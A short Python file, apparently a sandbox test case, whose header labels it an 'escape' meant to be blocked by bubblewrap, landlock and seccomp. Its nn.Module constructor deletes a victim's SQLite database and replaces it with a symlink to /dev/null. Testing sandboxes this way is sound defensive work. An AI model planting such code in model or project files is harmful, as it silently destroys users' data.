# what: puts another file in the database's place
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        open("mine", "w").close()
        path = VICTIM["state"] + "/llmatic.sqlite"
        torch.os.unlink(path)
        torch.os.symlink("/dev/null", path)
        raise RuntimeError("GOT its place")
